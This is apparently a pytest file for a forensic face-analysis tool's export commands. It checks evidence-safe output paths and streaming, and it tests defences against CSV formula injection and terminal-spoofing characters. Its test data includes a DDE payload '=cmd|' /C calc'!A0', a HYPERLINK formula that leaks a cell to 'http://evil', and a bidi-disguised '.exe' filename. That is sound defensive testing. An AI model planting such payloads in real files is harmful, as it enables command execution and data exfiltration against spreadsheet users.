"""Exports (CSV, JSON, JSONL, Project VIC VICS JSON) of real analyses, on SQLite and PostgreSQL;
streaming in bounded memory; output files never inside an evidence root nor onto an evidence file
(a hard link or a symbolic link to one), for exports, annotated copies, crops and ``analyze
--annotate``, checked on the opened file; CSV cells that a spreadsheet would run as formulas are
neutralised (``--csv-raw`` turns that off); JSON stays exact but escapes what could fool a
terminal. Every test that touches real evidence proves the tree unchanged."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import tracemalloc
from pathlib import Path

import pytest
from sqlalchemy import insert

from daemon.cli import main
from daemon.queries import read
from daemon.queries.formats import FACE_COLUMNS, csv_cell, face_record, write_csv
from daemon.queries.filters import Cut, Filters
from daemon.store import schema as s
from daemon.store.engine import open_engine, open_store_engine
from daemon.queries.filters import parse
from daemon.store import reviews as rv
from tests.query_fixtures import (Evidence, Synth, add_file, cli, dev_db, evidence, image_bytes, load_world, make_evidence,  # noqa: F401
                                  real_db, reference_faces, synth, world)


def _export(capsys, url: str, *argv: str) -> str:  # noqa: ANN001
    code = main(["export", "--db", url, *argv])
    out, err = capsys.readouterr()
    assert code == 0, err
    return out


def test_csv_json_jsonl_agree_and_follow_the_filters(real_db, capsys) -> None:  # noqa: ANN001
    w = load_world(real_db.url)
    expected = sorted(r["face_id"] for r in reference_faces(w, parse({"gender": "male", "width_min": "30"})))
    assert expected
    args = ("--gender", "male", "--width-min", "30")
    rows = list(csv.DictReader(io.StringIO(_export(capsys, real_db.url, *args))))
    assert tuple(rows[0]) == FACE_COLUMNS
    assert sorted(int(r["face_id"]) for r in rows) == expected
    doc = json.loads(_export(capsys, real_db.url, "--format", "json", *args))
    assert doc["format"] == "forensic-gender/faces" and doc["version"] == 1 and doc["count"] == len(expected)
    assert doc["query"] == {"gender": ["male"], "width_min": "30"} and doc["database"] == real_db.url.split("?")[0] or doc["database"]
    lines = [json.loads(x) for x in _export(capsys, real_db.url, "--format", "jsonl", *args).splitlines()]
    assert lines == doc["faces"]
    for r, j in zip(rows, lines, strict=True):  # CSV is the same data as text; empty = null
        assert {k: ("" if v is None else str(v)) for k, v in j.items()} == r
        assert j["gender"] == "male" and j["width_px"] >= 30 and len(j["sha256"]) == 64 and j["path"].startswith(str(real_db.ev))
        assert j["analysed"].endswith("Z") and j["bundle"] == real_db.bundle


def test_vics_media_layout(real_db, capsys) -> None:  # noqa: ANN001
    doc = json.loads(_export(capsys, real_db.url, "--format", "vics"))
    assert doc["@odata.context"] == "http://github.com/VICSDATAMODEL/ProjectVic/DataModels/2.0.xml/US/$metadata#Media"
    media = doc["value"]
    w = load_world(real_db.url)
    images = {i["md5"].upper(): i for i in w["images"]}
    with_faces = {a["image_id"] for a in w["analyses"] if a["faces"]}
    assert len(media) == len(with_faces)  # one Media per content with at least one face in the query
    assert [m["MediaID"] for m in media] == list(range(1, len(media) + 1))
    for m in media:
        im = images[m["MD5"]]
        assert m["Category"] == 0 and m["IsPrecategorized"] == "false" and m["MediaSize"] == im["size"]
        assert m["AlternativeHashes"] == [{"HashName": "SHA256", "HashValue": im["sha256"].upper(), "MD5": m["MD5"]}]
        paths = sorted(f["path"] for f in w["files"] if f["image_id"] == im["id"])
        assert [f["FilePath"] for f in m["MediaFiles"]] == paths
        assert all(f["MD5"] == m["MD5"] and f["FileName"] == f["FilePath"].rsplit("/", 1)[1] for f in m["MediaFiles"])
        n = sum(1 for fc in w["faces"] if any(a["id"] == fc["analysis_id"] and a["image_id"] == im["id"] for a in w["analyses"]))
        assert m["Comments"].count("\nface ") == n and f"faces={n}" in m["Tags"] and m["Tags"].startswith("forensic-gender,")
        assert m["MimeType"] == "image/jpeg" and m["DateUpdated"].endswith("Z") and "SHA1" not in m
    dup = [m for m in media if m["AlternativeHashes"][0]["HashValue"] == real_db.dup_sha.upper()]
    assert len(dup) == 1 and len(dup[0]["MediaFiles"]) == 2


def test_vics_case_layout_sha1_and_filters(real_db, capsys) -> None:  # noqa: ANN001
    out = real_db.out / f"vics-{real_db.url[:5]}.json"
    code = main(["export", "--db", real_db.url, "--format", "vics", "--hash-files", "--case-number", "2024-0001",
                 "--root", str(real_db.ev2), "--gender", "female", "-o", str(out)])
    assert code == 0
    assert "media record(s) written to" in capsys.readouterr().err
    doc = json.loads(out.read_text())
    assert doc["@odata.context"].endswith("$metadata#Cases")
    case = doc["value"][0]
    assert case["CaseNumber"] == "2024-0001" and case["SourceApplicationName"] == "forensic-gender"
    assert case["CaseID"].startswith("{") and case["Media"]
    for m in case["Media"]:
        path = m["MediaFiles"][0]["FilePath"]
        assert path.startswith(str(real_db.ev2))
        data = Path(path).read_bytes()
        assert m["SHA1"] == hashlib.sha1(data).hexdigest().upper() and m["MD5"] == hashlib.md5(data).hexdigest().upper()
        assert all(line.split(": ")[1].startswith("female") for line in m["Comments"].splitlines()[1:])
        assert m["RelativeFilePath"] == path[len(str(real_db.ev2)) + 1:]


def test_export_refuses_output_inside_an_evidence_root(real_db, capsys) -> None:  # noqa: ANN001
    target = real_db.ev / "export.csv"
    code = main(["export", "--db", real_db.url, "-o", str(target)])
    assert code == 2 and "inside the evidence root" in capsys.readouterr().err
    assert not target.exists()


def _bulk(url: str, n: int) -> None:
    """``n`` images with one face each, inserted directly."""
    engine = open_store_engine(url)
    with engine.begin() as c:
        c.execute(insert(s.bundles).values(key="cccc000000000003", spec="{}", created=1.0))
        c.execute(insert(s.images), [{"id": i, "sha256": hashlib.sha256(str(i).encode()).hexdigest(), "md5": "0" * 32, "size": 1000,
                                      "format": "jpeg", "width": 100, "height": 100, "first_seen": 1.0} for i in range(1, n + 1)])
        c.execute(insert(s.files), [{"id": i, "path": f"/ev/dir{i % 97}/image-{i:07d}.jpg", "root": "/ev", "size": 1000, "mtime_ns": 1,
                                     "state": "done", "image_id": i, "attempts": 1, "first_seen": 1.0, "last_seen": 1.0, "updated": 1.0}
                                    for i in range(1, n + 1)])
        c.execute(insert(s.analyses), [{"id": i, "image_id": i, "bundle": "cccc000000000003", "faces": 1, "created": 2.0} for i in range(1, n + 1)])
        c.execute(insert(s.faces), [{"id": i, "analysis_id": i, "idx": 0, "x1": 1.0, "y1": 1.0, "x2": 50.0, "y2": 60.0, "score": 0.9,
                                     "landmarks": "[]", "width_px": 49.0, "p_male": (i % 100) / 100, "p_female": 1 - (i % 100) / 100,
                                     "gender": "female", "age": 20.0 + i % 50, "age_std": 3.0} for i in range(1, n + 1)])
    engine.dispose()


class _Null(io.TextIOBase):
    def write(self, s: str) -> int:  # noqa: ANN001
        return len(s)


def _peak_export(url: str, fmt: str) -> tuple[int, int]:
    from daemon.queries import vics
    from daemon.queries.formats import _media_groups, write_json

    engine = open_engine(url, readonly=True)
    tracemalloc.start()
    with engine.connect() as c, engine.connect() as side:
        sc = read.scope(c, Filters(), Cut())
        rows = read.faces(c, Filters(sort="sha256" if fmt == "vics" else "path"), sc, stream=True)
        if fmt == "csv":
            n = write_csv(_Null(), FACE_COLUMNS, (face_record(r) for r in rows))
        elif fmt == "json":
            n = write_json(_Null(), "faces", {}, (face_record(r) for r in rows))
        else:
            n = vics.write(_Null(), _media_groups(side, rows, None), cut={"threshold": 0.5, "margin": 0.1})
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    engine.dispose()
    return n, peak


@pytest.mark.parametrize("fmt", ["csv", "json", "vics"])
def test_exports_stream_in_bounded_memory(db_url, fmt) -> None:  # noqa: ANN001
    """The peak Python memory of an export does not grow with the number of faces (one batch of
    rows at a time: a server-side cursor on PostgreSQL)."""
    _bulk(db_url, 4000)
    n, peak = _peak_export(db_url, fmt)
    assert n == 4000
    # materialized, 4,000 face rows take about 9 MB here (28 MB for 12,000); streamed, one batch
    assert peak < 4 * 1024 * 1024, f"{fmt}: peak {peak / 1e6:.1f} MB for {n} rows"


def test_streaming_uses_a_server_side_cursor_on_postgresql(pg_url) -> None:  # noqa: ANN001
    from sqlalchemy import event

    _bulk(pg_url, 1200)
    engine = open_engine(pg_url, readonly=True)
    seen = []

    @event.listens_for(engine, "before_cursor_execute")
    def _spy(conn, cursor, statement, params, context, executemany) -> None:  # noqa: ANN001
        seen.append(type(cursor).__name__)

    with engine.connect() as c:
        rows = read.faces(c, Filters(), read.scope(c, Filters(), Cut()), stream=True)
        first = next(rows)
        assert first["face_id"] and sum(1 for _ in rows) == 1199
    engine.dispose()
    assert "ServerCursor" in seen, seen


def test_synthetic_export_of_reviews(synth, capsys) -> None:  # noqa: ANN001
    from tests.query_fixtures import add_review

    add_review(synth.url, synth.face["img1/b2/0"], "corrected", "female", "note, with a comma", decision="male")
    rows = list(csv.DictReader(io.StringIO(_export(capsys, synth.url, "--review", "reviewed"))))
    assert [(r["review"], r["review_label"], r["review_note"], r["final_gender"], r["gender"]) for r in rows] == [
        ("corrected", "female", "note, with a comma", "female", "male")]
    doc = json.loads(_export(capsys, synth.url, "--format", "vics", "--bundle", "all"))
    one = [m for m in doc["value"] if m["MediaFiles"] and m["MediaFiles"][0]["FilePath"] == "/ev/a/one.jpg"][0]
    gone = [m for m in doc["value"] if not m["MediaFiles"]]  # content no recorded path holds any more
    assert len(gone) == 1 and "RelativeFilePath" not in gone[0]
    assert "review corrected as female by tester: note, with a comma" in one["Comments"] and "reviewed" in one["Tags"]
    assert "model bundle aaaa000000000001, bbbb000000000002" in one["Comments"]


# --------------------------------------------------------------------------------------------
# Output files never touch evidence (issue 18)


def test_output_files_never_touch_evidence(evidence: Evidence) -> None:
    url, root, out = evidence.url, evidence.root, evidence.out
    ev = evidence.path["small.jpg"]
    sha = evidence.sha["small.jpg"]
    linked = out / "linked.csv"
    os.link(ev, linked)
    sym = out / "sym.csv"
    sym.symlink_to(ev)
    other = out / "other.csv"
    other.write_text("keep me\n")
    os.link(other, out / "other-link.csv")
    jpg_link = out / "linked.jpg"
    os.link(ev, jpg_link)
    crops = out / "crops"
    crops.mkdir()
    os.link(ev, crops / "crops.csv")
    evidence.seal()  # the links above changed the evidence file's ctime and link count: the tree from here on
    cases = [
        (["export", "--format", "csv", "-o", str(linked)], "is the evidence file"),
        (["export", "--format", "json", "-o", str(sym)], "is a symbolic link"),
        (["export", "--format", "jsonl", "-o", str(root / "x.jsonl")], "is inside the evidence root"),
        (["export", "--format", "csv", "-o", str(root / "new-dir" / "x.csv")], "is inside the evidence root"),
        (["export", "--format", "csv", "-o", str(other)], "has 2 names (hard links)"),
        (["annotate", sha, "-o", str(linked), "--force"], "the output must end in .jpg"),
        (["annotate", sha, "-o", str(root / "a.jpg")], "is inside the evidence root"),
        (["crops", "--out", str(root / "crops")], "is inside the evidence root"),
        (["crops", "--out", str(root)], "is inside the evidence root"),
    ]
    cases.append((["annotate", sha, "-o", str(jpg_link), "--force"], "is the evidence file"))
    cases.append((["crops", "--out", str(crops)], "is the evidence file"))
    for argv, message in cases:
        rc, _, err = cli([argv[0], "--db", url, *argv[1:]])
        assert rc == 2 and message in err, (argv, rc, err)
        assert "Traceback" not in err
        evidence.assert_unchanged()
    assert other.read_text() == "keep me\n" and ev.read_bytes() == jpg_link.read_bytes()
    # the same commands with ordinary outputs work
    rc, _, err = cli(["export", "--db", url, "--format", "csv", "-o", str(out / "faces.csv")])
    assert rc == 0, err
    rc, _, err = cli(["annotate", "--db", url, sha, "-o", str(out / "a" / "b" / "ann.jpg")])
    assert rc == 0 and (out / "a" / "b" / "ann.jpg").stat().st_size > 0, err
    rc, _, err = cli(["crops", "--db", url, "--out", str(out / "crops2")])
    assert rc == 0 and len(list((out / "crops2").glob("*.jpg"))) == 3, err
    evidence.assert_unchanged()


def test_analyze_annotate_never_writes_onto_evidence(tmp_path: Path, models_ready: None) -> None:
    """``analyze --annotate``: an annotated copy whose name is already a hard link to the input
    (or a symbolic link) is refused, exit 2, the input unchanged (content, mtime, inode); a
    folder inside the input's folder is refused before anything is created."""
    from daemon.cli.analyze import _annotated_name

    ev = make_evidence(f"sqlite:///{tmp_path / 'unused.db'}", tmp_path, {})
    img = ev.root / "in.jpg"
    img.write_bytes(image_bytes(320, 240, 9))
    ev.seal()
    sha = hashlib.sha256(img.read_bytes()).hexdigest()
    out = ev.out / "ann"
    out.mkdir()
    name = os.fsdecode(_annotated_name(str(img), sha))
    os.link(img, out / name)
    ev.seal()  # the hard link changed the input's ctime and link count: the tree from here on
    rc, stdout, err = cli(["analyze", str(img), "--annotate", str(out)])
    assert rc == 2 and "is the evidence file" in err and "Traceback" not in err, err
    ev.assert_unchanged()
    (out / name).unlink()
    (out / name).symlink_to(img)
    rc, _, err = cli(["analyze", str(img), "--annotate", str(out)])
    assert rc == 2 and "is a symbolic link" in err, err
    rc, _, err = cli(["analyze", str(img), "--annotate", str(ev.root / "annotated")])
    assert rc == 2 and "holds evidence" in err and not (ev.root / "annotated").exists(), err
    link = ev.out / "to-root"
    link.symlink_to(ev.root)
    rc, _, err = cli(["analyze", str(img), "--annotate", str(link)])
    assert rc == 2 and "is inside the evidence root" in err, err
    ev.seal()
    (out / name).unlink()
    rc, stdout, err = cli(["analyze", str(img), "--annotate", str(out)])
    assert rc == 0 and (out / name).stat().st_size > 1000 and (out / name).stat().st_ino != img.stat().st_ino, err
    ev.assert_unchanged()


# --------------------------------------------------------------------------------------------
# Wrong or hostile output: formulas in CSV, characters that fool a terminal in JSON


FORMULA = ("=", "+", "-", "@", "\t", "\r")


def test_csv_cell_rule() -> None:
    assert [csv_cell(v) for v in ("=1+2", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "a=b", "", None, -0.5, 3, "/ev/a.jpg")] == \
        ["'=1+2", "'+1", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "a=b", "", None, -0.5, 3, "/ev/a.jpg"]
    buf = io.StringIO()
    write_csv(buf, ("n", "t"), [{"n": -0.5, "t": "-0.5"}])
    assert buf.getvalue() == "n,t\n-0.5,'-0.5\n"
    buf = io.StringIO()
    write_csv(buf, ("n", "t"), [{"n": -0.5, "t": "=cmd|' /C calc'!A0"}], raw=True)
    assert buf.getvalue() == "n,t\n-0.5,=cmd|' /C calc'!A0\n"


def test_csv_exports_cannot_carry_formulas(world: tuple[Synth, Evidence]) -> None:
    synth, _ = world
    import csv

    face = synth.face["img1/b2/0"]
    engine = open_store_engine(synth.url)
    with engine.begin() as c:
        rv.record(c, face, rv.Review("ignored", note='=HYPERLINK("http://evil/?"&A1,"x")', reviewer="@evil"), "male")
    engine.dispose()
    add_file(synth.url, "/ev/-rm.jpg", "/ev", "dash")
    for argv, col, raw_value in [(["export", "--format", "csv", "--sha256", synth.sha["img1"]], "review_note", '=HYPERLINK("http://evil/?"&A1,"x")'),
                                 (["faces", "--format", "csv", "--sha256", synth.sha["img1"]], "reviewer", "@evil"),
                                 (["images", "--format", "csv", "--path-prefix", "/ev/-"], "path", "/ev/-rm.jpg")]:
        rc, out, err = cli([argv[0], "--db", synth.url, *argv[1:]])
        rows = list(csv.DictReader(io.StringIO(out)))
        assert rc == 0 and rows, err
        values = [r[col] for r in rows if r[col]]
        if raw_value.startswith(FORMULA):
            assert values == ["'" + raw_value], values
        else:
            assert values == [raw_value], values  # a path starting with / is not a formula
        assert all(not v.startswith(FORMULA) for r in rows for v in r.values()), rows
        rc, out, _ = cli([argv[0], "--db", synth.url, *argv[1:], "--csv-raw"])
        assert [r[col] for r in csv.DictReader(io.StringIO(out)) if r[col]] == [raw_value]
    # numbers stay numbers
    rc, out, _ = cli(["export", "--db", synth.url, "--format", "csv", "--sha256", synth.sha["img1"]])
    assert all(float(r["p_male"]) >= 0 and not r["p_male"].startswith("'") for r in csv.DictReader(io.StringIO(out)))


def test_crops_csv_cannot_carry_formulas(evidence: Evidence) -> None:
    import csv

    engine = open_store_engine(evidence.url)
    with engine.begin() as c:
        rv.record(c, evidence.face["small.jpg"], rv.Review("ignored", note="+cmd", reviewer="-me"), "male")
    engine.dispose()
    out = evidence.out / "c"
    rc, _, err = cli(["crops", "--db", evidence.url, "--out", str(out), "--sha256", evidence.sha["small.jpg"]])
    (row,) = list(csv.DictReader(io.StringIO((out / "crops.csv").read_text(encoding="utf-8"))))
    assert rc == 0 and (row["review_note"], row["reviewer"]) == ("'+cmd", "'-me"), err
    assert not row["x1"].startswith("'")


def test_json_is_exact_and_cannot_fool_a_terminal(world: tuple[Synth, Evidence]) -> None:
    """Names and notes with bidi overrides, C1 controls and line separators: JSON output has
    them as \\u escapes (valid JSON, the same values), in every JSON command."""
    import re

    synth, _ = world
    name = "/ev/\u202egpj.exe\u2028x\x85y\x1b[2J"
    add_file(synth.url, name, "/ev", "json-name")
    engine = open_store_engine(synth.url)
    with engine.begin() as c:
        rv.record(c, synth.face["img1/b2/0"], rv.Review("ignored", note="n\u2066o\u200bte\x9b", reviewer="\ufeffme"), "male")
    engine.dispose()
    raw = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")
    for argv, pick in [(["images", "--format", "json", "--path-prefix", "/ev/\u202e"], lambda d: d["images"][0]["path"]),
                       (["images", "--format", "jsonl", "--path-prefix", "/ev/\u202e"], lambda d: d["path"]),
                       (["export", "--format", "json", "--sha256", synth.sha["img1"], "--review", "reviewed"], lambda d: d["faces"][0]["review_note"]),
                       (["show", synth.sha["img1"], "--format", "json"], lambda d: d["reviews"][0]["note"]),
                       (["stats", "--format", "json", "--path-prefix", "/ev/\u202e"], lambda d: next(iter(d["by_root"])))]:
        rc, out, err = cli([argv[0], "--db", synth.url, *argv[1:]])
        assert rc == 0 and not raw.search(out.replace("\n", "")), (argv, err, out[:300])
        value = pick(json.loads(out))
        assert value in (name, "n\u2066o\u200bte\x9b", "/ev"), (argv, value)

